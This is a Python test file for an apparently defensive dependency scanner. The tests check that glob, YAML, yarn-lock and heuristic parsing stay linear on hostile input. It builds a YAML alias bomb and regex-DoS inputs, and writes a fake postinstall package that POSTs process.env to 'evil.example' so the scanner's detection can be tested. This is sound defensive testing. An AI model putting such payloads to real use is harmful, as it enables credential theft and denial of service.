"""Bounded work on hostile input: suppression globs in time linear in the path (no backtracking),
YAML alias amplification in pnpm files refused, each tripped limit a clear error naming the file.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from pathlib import Path

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from gouvernante.errors import GouvernanteError, SuppressionError
from gouvernante.fs import globs
from gouvernante.heuristic import scan_package_dir
from gouvernante.lockfiles import parse_bytes, pnpm_workspace
from gouvernante.lockfiles._yarn_common import key_descriptors
from gouvernante.rules.loader import load_rule_files
from gouvernante.semver import parse_range, parse_version
from gouvernante.suppress import glob_match, parse_suppressions
from helpers import cpu_seconds


def reference_regex(pattern: str) -> re.Pattern[str]:
    """The glob semantics as a (backtracking) regex: fine on the short inputs of the property."""
    out: list[str] = []
    i, n = 0, len(pattern)
    while i < n:
        c = pattern[i]
        if pattern.startswith("**/", i):
            out.append("(?:.*/)?")
            i += 3
            continue
        if pattern.startswith("**", i):
            out.append(".*")
            i += 2
            continue
        out.append({"*": "[^/]*", "?": "[^/]"}.get(c, re.escape(c)))
        i += 1
    return re.compile("".join(out), re.DOTALL)


@settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(
    pattern=st.text(alphabet="ab/*?.", max_size=10),
    path=st.text(alphabet="ab/.", max_size=12),
)
@example(pattern="./", path="/")
@example(pattern="**/a", path="a")
@example(pattern="a/**", path="a/")
def test_glob_agrees_with_the_regex_semantics(pattern: str, path: str) -> None:
    norm_pattern, norm_path = pattern, path
    while norm_pattern.startswith("./"):
        norm_pattern = norm_pattern[2:]
    while norm_path.startswith("./"):
        norm_path = norm_path[2:]
    if "/" not in norm_pattern:  # the name-anywhere rule is tested in tests/suppress
        return
    expected = reference_regex(norm_pattern).fullmatch(norm_path) is not None
    assert glob_match(pattern, path) is expected


def test_hostile_globs_take_linear_time() -> None:
    """Backtracking-prone globs against a long path: CPU time grows with the path's length, not
    faster (a ratio of two lengths in the same run, so machine load does not decide)."""
    patterns = ["*a" * 40 + "b", "**/" * 40 + "*a*a*a*a*a*b", "**" * 50 + "x", "?*" * 200 + "b"]

    def match_all(scale: int) -> Callable[[], None]:
        path = "a/" * (500 * scale) + "a" * (1250 * scale)

        def run() -> None:
            for pattern in patterns:
                assert glob_match(pattern, path) is False

        return run

    match_all(1)()  # warm-up
    short, long = cpu_seconds(match_all(1)), cpu_seconds(match_all(4))
    # 4x the length: linear is ~4x; quadratic would be ~16x. The 0.05 s absorbs timer noise.
    assert long < 8 * short + 0.05, (short, long)


def test_glob_length_is_capped() -> None:
    doc = (
        b'{"version": 1, "suppressions": [{"path": "' + b"*" * 5000 + b'", "reason": "r",'
        b' "expires": "2099-01-01"}]}'
    )
    try:
        parse_suppressions(doc, ".gouvernante-ignore.json")
    except SuppressionError as exc:
        assert exc.one_line().startswith(".gouvernante-ignore.json: suppressions[0].path: ")
        assert "longer than 1024 characters" in exc.one_line()
    else:
        raise AssertionError("a 5000-character glob was accepted")


def test_pnpm_alias_amplification_is_refused_quickly() -> None:
    lines = ["lockfileVersion: '9.0'", "a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 30):
        prev = f"*a{i - 1}"
        lines.append(f"a{i}: &a{i} [{', '.join([prev] * 10)}]")
    lines.append("importers:\n  .:\n    dependencies: *a29")
    data = ("\n".join(lines) + "\n").encode()
    start = time.process_time()  # CPU time: the machine's load does not count
    try:
        parse_bytes(data, "bomb/pnpm-lock.yaml", "pnpm-lock.yaml")
    except GouvernanteError as exc:
        assert exc.one_line().startswith("bomb/pnpm-lock.yaml: line 2: ")
        assert "anchor or alias of a mapping or list" in exc.one_line()
    else:
        raise AssertionError("a YAML bomb was parsed")
    assert time.process_time() - start < 2.0


def _big_rule(tmp: Path, count: int) -> Path:
    versions = [f"{i // 1_000_000}.{(i // 1000) % 1000}.{i % 1000}" for i in range(count)]
    versions.append(">=9.0.0 <9.1.0")
    rule = {
        "id": "BIG-1",
        "title": "A million exact versions",
        "kind": "compromised-release",
        "ecosystem": "npm",
        "severity": "high",
        "package_rules": [{"package_name": "a", "affected_versions": versions}],
    }
    path = tmp / "big.json"
    path.write_text(json.dumps({"schema_version": "1.0.0", "rules": [rule]}))
    return path


def test_a_million_exact_versions_load_in_about_a_second(tmp_path: Path) -> None:
    path = _big_rule(tmp_path, 1_000_000)
    start = time.process_time()  # CPU time: the machine may be shared
    ruleset, errors = load_rule_files([str(path)])
    loaded = time.process_time() - start
    assert errors == []
    prule = ruleset.rules[0].package_rules[0]
    assert prule.first_match(parse_version("0.999.999")) == "0.999.999"
    assert prule.first_match(parse_version("9.0.5")) == ">=9.0.0 <9.1.0"
    assert prule.first_match(parse_version("1.0.0")) is None
    assert prule.first_match(parse_version("0.0.1-beta")) is None  # =0.0.1 is no prerelease
    assert loaded < 4.0, f"{loaded:.2f} s of CPU to load a million exact versions"


def test_first_match_keeps_the_rule_order() -> None:
    from gouvernante.rules.model import PackageRule

    rule = PackageRule("a", ("^1.0.0", "=1.2.3", "1.2.3", "<1.0.0"), frozenset())
    assert rule.first_match(parse_version("1.2.3")) == "^1.0.0"
    rule = PackageRule("a", ("=1.2.3", "^1.0.0"), frozenset())
    assert rule.first_match(parse_version("1.2.3")) == "=1.2.3"
    assert rule.first_match(parse_version("1.5.0")) == "^1.0.0"
    assert rule.first_intersecting(parse_range("~1.2.0")) == "=1.2.3"
    assert rule.first_intersecting(parse_range("^2")) is None


# --- decision 0116: workspace globs, yarn headers -------------------------------------------


def _packages(root: Path, count: int) -> list[str]:
    for i in range(count):
        (root / "packages" / f"p{i}").mkdir(parents=True)
        (root / "packages" / f"p{i}" / "package.json").write_text("{}")
    return [f"packages/p{i}" for i in range(count)]


def test_workspace_paths_listed_one_by_one_take_linear_time(tmp_path: Path) -> None:
    """A root naming each of its members by path: every folder was tried against every glob
    (4x the members: 16x the time); now a path is looked up. A ratio of two sizes, same run."""
    small, large = tmp_path / "small", tmp_path / "large"
    small_globs, large_globs = _packages(small, 250), _packages(large, 1000)
    assert globs.expand(str(small), small_globs) == sorted(small_globs)
    short = cpu_seconds(lambda: globs.expand(str(small), small_globs))
    long = cpu_seconds(lambda: globs.expand(str(large), large_globs))
    assert long < 8 * short + 0.05, (short, long)


def test_globs_with_many_double_stars_walk_each_place_once(tmp_path: Path) -> None:
    """``**/a/**/a/.../b`` over ``a/a/a/...``: each way of splitting the path was walked (the
    number of ways grows as depth^k); now each (folder, rest of the glob) once. ``**/**/...``
    of 100,000 segments recursed past Python's limit (an internal error)."""
    deep = tmp_path.joinpath(*["a"] * 24)
    deep.mkdir(parents=True)
    (deep / "b").mkdir()
    (deep / "b" / "package.json").write_text("{}")
    member = "/".join(["a"] * 24 + ["b"])

    def expand(k: int) -> list[str]:
        return globs.expand(str(tmp_path), ["**/a/" * k + "b"])

    assert expand(3) == [member]
    short, long = cpu_seconds(lambda: expand(3)), cpu_seconds(lambda: expand(6))
    assert long < 8 * short + 0.05, (short, long)
    problems: list[str] = []
    assert globs.expand(str(tmp_path), ["**/" * 100_000 + "b"], problems) == [member]
    assert problems == []
    assert globs.matches(member, ["**/" * 100_000 + "b"])


def test_too_many_workspace_globs_are_refused_naming_the_first() -> None:
    wild = [f"x{i}/*" for i in range(globs.MAX_WILDCARD_GLOBS + 1)]
    manifest = json.dumps({"name": "p", "workspaces": {"packages": [1, *wild]}}).encode()
    try:
        parse_bytes(manifest, "h/package.json", "package.json")
    except GouvernanteError as exc:
        text = exc.one_line()
        assert text.startswith(f"h/package.json: workspaces.packages[{len(wild)}]: "), text
        assert f"more than {globs.MAX_WILDCARD_GLOBS} workspace globs with a wildcard" in text
    else:
        raise AssertionError("a manifest with too many wildcard globs was read")
    paths = [f"p{i}" for i in range(globs.MAX_GLOBS + 1)]
    yaml = ("packages:\n" + "".join(f"  - {p}\n" for p in paths)).encode()
    try:
        pnpm_workspace.read(yaml, "h/pnpm-workspace.yaml")
    except GouvernanteError as exc:
        assert exc.one_line().startswith(f"h/pnpm-workspace.yaml: packages[{globs.MAX_GLOBS}]: ")
    else:
        raise AssertionError("a pnpm-workspace.yaml with too many globs was read")
    # at the limits: read
    assert len(pnpm_workspace.read(yaml.rsplit(b"  - ", 1)[0], "w.yaml").packages) == len(paths) - 1


def _reference_matches(folder: str, patterns: list[str]) -> bool:
    """Every glob tried in turn, the last naming the folder deciding (before 0116)."""
    parts = [p for p in folder.split("/") if p and p != "."]
    included = False
    for pattern in patterns:
        negated = pattern.startswith("!")
        segments = globs._segments(pattern[1:] if negated else pattern)
        if parts and segments and globs._match(parts, segments):
            included = not negated
    return included


@settings(
    max_examples=400,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(
    patterns=st.lists(
        st.text(alphabet="ab/*.!", max_size=8).map(lambda p: p.replace("!", "", 1) and p),
        max_size=6,
    ),
    folder=st.text(alphabet="ab/.", max_size=8),
)
@example(patterns=["a/b", "!a/*", "a/b"], folder="a/b")
@example(patterns=["**/**", "!.a"], folder=".a")
@example(patterns=["node_modules", "a/b"], folder="node_modules")
def test_globs_read_once_agree_with_each_tried_in_turn(patterns: list[str], folder: str) -> None:
    assert globs.matches(folder, patterns) is _reference_matches(folder, patterns)


def test_yarn_header_split_takes_linear_time() -> None:
    """A berry key with a run of spaces before no comma: ``re.split(" *, *")`` tried the run
    from each of its spaces (40,000 of them: 0.56 s, 100,000: 14 s); the key is now cut at its
    commas."""

    def lock(spaces: int) -> bytes:
        return (
            '__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"p@workspace:.":\n'
            '  version: 0.0.0-use.local\n  resolution: "p@workspace:."\n  dependencies:\n'
            '    a: "npm:^1.0.0"\n  languageName: unknown\n  linkType: soft\n\n'
            '"a@npm:^1.0.0, a@npm:^1.0.0' + " " * spaces + 'x":\n  version: 1.0.0\n'
            '  resolution: "a@npm:1.0.0"\n  checksum: 10c0/abc\n  languageName: node\n'
            "  linkType: hard\n"
        ).encode()

    def read(spaces: int) -> None:
        graph = parse_bytes(lock(spaces), "yarn.lock", "yarn.lock")
        assert ("a", "1.0.0") in [(p.name, p.version) for p in graph.packages]

    read(10)
    short, long = cpu_seconds(lambda: read(10_000)), cpu_seconds(lambda: read(40_000))
    assert long < 8 * short + 0.05, (short, long)
    assert key_descriptors("a@1 ,  , b@2 , c@3") == ["a@1", "b@2", "c@3"]


def test_js_numbers_in_a_workspace_file_take_linear_time() -> None:
    """pnpm reads pnpm-workspace.yaml's plain scalars as js-yaml numbers: ``0x`` and a run of
    hex digits not ending the text was tried at every split of the run (30,000 of them: 13 s)."""

    def read(digits: int) -> None:
        text = f"catalog:\n  a: 0x{'C' * digits}G\n  c: 0x_\n".encode()
        catalog = pnpm_workspace.read(text, "pnpm-workspace.yaml").catalogs["default"]
        assert catalog == {"a": f"0x{'C' * digits}G", "c": "0x_"}  # strings to js-yaml

    for number in ("0x1_F", "0b1_0", "0o7_7", "0x" + "F" * 5000):  # numbers: pnpm refuses them
        try:
            pnpm_workspace.read(f"catalog:\n  a: {number}\n".encode(), "w.yaml")
        except GouvernanteError as exc:
            assert "a number where pnpm expects a string" in exc.one_line()
        else:
            raise AssertionError(f"{number[:10]} read as a string")
    read(10)
    short, long = cpu_seconds(lambda: read(2_000)), cpu_seconds(lambda: read(8_000))
    assert long < 8 * short + 0.05, (short, long)


def _hostile_package(folder: Path, body: str) -> Path:
    folder.mkdir(parents=True)
    scripts = {"postinstall": "node index.js"}
    (folder / "package.json").write_text(
        json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts})
    )
    (folder / "index.js").write_text(body)
    return folder


def test_heuristic_runs_of_white_space_take_linear_time(tmp_path: Path) -> None:
    """A package's code read by ``-heuristic``: white space split between ``\\s*`` around
    optional tokens was tried every way (``Object.keys(process.env).find(`` and 300 spaces: 17 s
    of a scan, 500 several minutes; ``.map(`` and line breaks, a ternary's spaces). Still found:
    the environment sent to a host from an install script."""
    sent = (
        'const https = require("https");\nconst k = Object.keys(process.env).find({gap})\n'
        'https.request({{hostname: "evil.example", method: "POST"}}).end(JSON.stringify(k));\n'
        "const y = [1].map({lines}b => b ^ 7);\nconst t = (a{gap}? 1 : 2);\n"
    )

    def scan(gap: int) -> Callable[[], None]:
        body = sent.format(gap=" " * gap, lines="\n" * gap)
        folder = str(_hostile_package(tmp_path / f"g{gap}", body))

        def run() -> None:
            hits = scan_package_dir(folder)
            assert "GH-CRED-ENV-HARVEST" in {h.pattern_id for h in hits}

        return run

    scan(1)()
    short, long = cpu_seconds(scan(60)), cpu_seconds(scan(240))
    assert long < 8 * short + 0.05, (short, long)
